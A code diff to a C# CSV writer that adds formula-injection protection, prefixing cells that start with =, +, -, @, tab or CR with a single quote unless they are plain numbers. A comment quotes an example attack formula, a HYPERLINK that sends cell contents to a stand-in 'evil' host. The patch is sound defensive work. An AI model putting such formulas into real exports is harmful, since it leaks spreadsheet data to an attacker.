@@ -23,7 +23,7 @@ internal static class CsvWriter
                     writer.Write(separator);
                 }
 
-                WriteText(writer, columns[c].Name, separator);
+                WriteText(writer, Neutralise(columns[c].Name, options), separator);
             }
 
             writer.Write('\n');
@@ -38,21 +38,21 @@ internal static class CsvWriter
                     writer.Write(separator);
                 }
 
-                WriteValue(writer, columns[c][r], separator);
+                WriteValue(writer, columns[c][r], separator, options);
             }
 
             writer.Write('\n');
         }
     }
 
-    private static void WriteValue(StreamWriter writer, object? value, char separator)
+    private static void WriteValue(StreamWriter writer, object? value, char separator, CsvOptions options)
     {
         switch (value)
         {
             case null:
                 return;
             case string s:
-                WriteText(writer, s, separator);
+                WriteText(writer, Neutralise(s, options), separator);
                 return;
             case bool b:
                 writer.Write(b ? "true" : "false");
@@ -72,9 +72,24 @@ internal static class CsvWriter
                 WriteText(writer, formattable.ToString(null, CultureInfo.InvariantCulture), separator);
                 return;
             default:
-                WriteText(writer, value.ToString() ?? "", separator);
+                WriteText(writer, Neutralise(value.ToString() ?? "", options), separator);
                 return;
         }
+    }
+
+    // Note [Formula cells]: a spreadsheet runs a cell that starts with = + - @ (and, in some, after a tab or CR) as a
+    // formula, so data from users (=HYPERLINK("https://evil/?"&A1,"Click")) becomes a link or a command in the
+    // reader's Excel. OWASP's rule: prefix such text with a single quote, which spreadsheets show as text. Text that
+    // is a plain number is left alone (a spreadsheet reads it as that number, not a formula) so negative numbers in
+    // text columns stay readable.
+    internal static string Neutralise(string text, CsvOptions options)
+    {
+        if (!options.EscapeFormulas || text.Length == 0 || text[0] is not ('=' or '+' or '-' or '@' or '\t' or '\r'))
+        {
+            return text;
+        }
+
+        return double.TryParse(text, NumberStyles.Float, CultureInfo.InvariantCulture, out _) ? text : "'" + text;
     }
 
     private static void WriteText(StreamWriter writer, string text, char separator)
